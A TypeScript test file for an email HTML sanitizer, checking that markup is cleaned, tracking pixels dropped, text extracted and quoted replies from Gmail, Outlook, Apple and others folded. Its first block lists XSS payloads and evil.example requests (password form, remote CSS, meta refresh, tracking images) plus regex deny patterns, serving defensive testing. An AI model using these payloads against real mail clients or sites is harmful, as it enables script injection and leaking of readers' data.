import { describe, expect, test } from 'vitest'
import { cleanBody } from './clean.ts'
import { mailLimits } from './limits.ts'

const clean = (html: string, contentIds: (string | undefined)[] = [], plain?: string) =>
  cleanBody([{ plain, html }], contentIds, mailLimits)
const htmlOf = (html: string) => clean(html).html ?? ''

describe('what can do harm is gone', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<object data=x></object><embed src=x>',
    '<div style="background:url(https://evil.example/t.gif)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="color:red;behavior:url(x);-moz-binding:url(x);width:expression(alert(1))">x</div>',
    '<div style="back\\67round:url(x)">x</div>',
    '<p id=login class=app onclick="alert(1)" data-x=1>x</p>',
    '<img srcset="https://evil.example/a 2x" src="">',
    '<video poster="https://evil.example"><source src="https://evil.example"></video>',
    '<table background="https://evil.example/t.gif"><tr><td>x</table>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
  ])('%s', (html) => {
    const safe = htmlOf(html)
    expect(safe).not.toMatch(
      /<(?:script|style|svg|math|iframe|form|input|button|object|embed|link|meta|base|video|source|template|xmp|noscript)\b/i,
    )
    expect(safe).not.toMatch(
      /\son\w+=|javascript:|url\(|expression|position|behavior|binding|\s(?:id|class|srcset|background)=/i,
    )
    expect(safe).not.toMatch(/\ssrc="https?:/i)
    expect(safe).not.toMatch(/href="(?!https?:|mailto:|tel:)/i)
  })

  test('looks are kept', () => {
    const html =
      '<p style="color: #333; font-family: Arial, sans-serif; margin: 0 0 10px; border-left: 2px solid #ccc">x</p>'
    expect(htmlOf(html)).toBe(html)
  })

  test('links open apart and tell nothing', () => {
    expect(htmlOf('<a href="https://a.example/x">x</a>')).toBe(
      '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(htmlOf('<a href="/login">x</a>')).toBe('<a>x</a>')
  })
})

describe('pictures', () => {
  test('of the mail are tied to its attachments, remote ones remembered but not loaded, watching pixels dropped', () => {
    const found = clean(
      '<img src="cid:p1@x" alt="a"><img src="https://shop.example/logo.png"><img src="https://t.example/p.gif" width=1 height=1><img src="cid:none">',
      [undefined, 'P1@x'],
    )
    expect(found.html).toBe(
      '<img alt="a" data-attachment="1"><img data-remote-src="https://shop.example/logo.png"><img>',
    )
    expect(found).toMatchObject({ remoteImages: 2, shownAttachments: [1] })
  })

  test('inside the HTML stay, other data does not', () => {
    expect(htmlOf('<img src="data:image/png;base64,iVBORw==">')).toContain('src="data:image/png')
    expect(htmlOf('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('<img>')
  })

  test('nobody can bring our own marks along', () => {
    expect(htmlOf('<img data-attachment="0" data-remote-src="https://x.example"><p data-folded="quote">x</p>')).toBe(
      '<img><p>x</p>',
    )
  })
})

describe('text', () => {
  test.each([
    ['paragraphs and breaks', '<p>one</p><p>two<br>three</p>', 'one\n\ntwo\nthree'],
    ['tables', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a  b\nc'],
    ['lists', '<ul><li>a</li><li>b</li></ul><ol><li>c</li><li>d</li></ol>', '• a\n• b\n\n1. c\n2. d'],
    ['blanks', '<div> a \n b&nbsp;c </div>', 'a b c'],
    ['preformatted', '<pre>a\n  b</pre>', 'a\n  b'],
    ['hidden words', '<p>seen</p><p style="display:none">hidden</p><span style="font-size:0">x</span>', 'seen'],
    ['entities', '&lt;b&gt; &amp; &euro;', '<b> & €'],
    ['a title where there is nothing else', '<title>Invoice</title><table></table>', 'Invoice'],
  ])('%s', (_name, html, text) => expect(clean(html).text).toBe(text))

  test('plain mail keeps its lines', () => {
    expect(cleanBody([{ plain: 'one\n\ntwo', html: undefined }], [], mailLimits)).toMatchObject({
      html: undefined,
      text: 'one\n\ntwo',
    })
  })

  test('too much is cut and says so', () => {
    const found = cleanBody([{ plain: 'x'.repeat(500_000), html: undefined }], [], mailLimits)
    expect(found).toMatchObject({ isCut: true })
    expect(found.text).toHaveLength(mailLimits.textChars)
  })
})

describe('quotations and signatures are marked, not removed', () => {
  test.each([
    [
      'Gmail',
      '<div dir="ltr">Yes.</div><br><div class="gmail_quote"><div class="gmail_attr">On Mon, Mar 2, 2026 at 4:37 PM Shop &lt;a@b.example&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px solid #ccc">Shall we?</blockquote></div>',
    ],
    [
      'Outlook',
      '<p>Yes.</p><div style="border:none;border-top:solid #E1E1E1 1.0pt"><p><b>From:</b> Shop &lt;a@b.example&gt;<br><b>Sent:</b> Monday, March 2, 2026 4:37 PM<br><b>To:</b> Jane<br><b>Subject:</b> Lamp</p></div><p>Shall we?</p>',
    ],
    [
      'Outlook on the web',
      '<div>Yes.</div><hr><div id="divRplyFwdMsg"><b>Von:</b> Shop &lt;a@b.example&gt;<br><b>Gesendet:</b> Montag, 2. März 2026 16:37<br><b>An:</b> Jane<br><b>Betreff:</b> Lampe</div><div>Shall we?</div>',
    ],
    [
      'Apple',
      '<div>Yes.</div><div><br><blockquote type="cite"><div>On 2 Mar 2026, at 16:37, Shop wrote:</div><div>Shall we?</div></blockquote></div>',
    ],
    [
      'Thunderbird',
      'Yes.<br><div class="moz-cite-prefix">On 02.03.2026 16:37, Shop wrote:<br></div><blockquote type="cite" cite="mid:x">Shall we?</blockquote>',
    ],
    [
      'GMX',
      '<div>Yes.</div><div name="quote" style="border-left:2px solid #C3D9E5"><div><b>Gesendet:</b> Montag, 2. März 2026 um 16:37 Uhr<br><b>Von:</b> Shop &lt;a@b.example&gt;<br><b>Betreff:</b> Lampe</div><div>Shall we?</div></div>',
    ],
    [
      'QQ',
      '<div>Yes.</div><div>------------------&nbsp;原始邮件&nbsp;------------------</div><div>发件人: Shop</div><div>Shall we?</div>',
    ],
    [
      'Yahoo',
      '<div>Yes.</div><div class="yahoo_quoted"><div>On Monday, March 2, 2026, 4:37 PM, Shop wrote:</div><div>Shall we?</div></div>',
    ],
  ])('%s', (_name, html) => {
    const found = clean(html)
    expect(found.visible).toBe('Yes.')
    const [before, after] = (found.html ?? '').split('Shall we?')
    expect(before).toContain('data-folded="quote"')
    expect(before?.indexOf('Yes.')).toBeLessThan(before?.indexOf('data-folded') ?? 0)
    expect(after).toBeDefined()
  })

  test('an indented paragraph is no quotation', () => {
    const html = '<div>Look:</div><blockquote style="margin:0 0 0 40px;border:none;padding:0">my words</blockquote>'
    expect(clean(html).visible).toContain('my words')
  })

  test('answers between quotations stay beside them', () => {
    const html =
      '<div class="gmail_quote">On 2 Mar 2026, Shop wrote:<blockquote>Which?</blockquote><div>Red.</div><blockquote>And?</blockquote><div>Large.</div></div>'
    expect(clean(html).visible).toMatch(/Which\?[\s\S]*Red\.[\s\S]*And\?[\s\S]*Large\./)
  })

  test("a phone's line is folded", () => {
    expect(clean('<div>Yes.</div><div><br></div><div>Von meinem iPhone gesendet</div>').visible).toBe('Yes.')
  })
})
